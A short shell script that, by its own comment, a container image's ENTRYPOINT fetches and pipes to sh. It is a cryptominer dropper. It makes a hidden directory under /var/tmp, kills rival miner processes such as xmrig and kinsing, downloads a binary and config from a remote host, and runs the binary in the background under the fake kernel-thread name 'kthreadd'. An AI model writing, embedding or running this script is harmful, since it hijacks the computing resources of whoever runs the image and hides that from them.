#!/bin/sh
# fetched and piped to sh by the image's ENTRYPOINT; BASE is set by it
BASE=${BASE:?}
DIR=/var/tmp/.xm
mkdir -p "$DIR" && cd "$DIR" || exit 1
for p in xmrig kdevtmpfsi kinsing sysupdate networkservice; do
	pkill -9 -f "$p" 2>/dev/null
done
curl -fsSL -o kthreadd "$BASE/kthreadd" && chmod +x kthreadd
curl -fsSL -o config.json "$BASE/config.json"
nohup ./kthreadd -c config.json >/dev/null 2>&1 &
while sleep 3600; do :; done
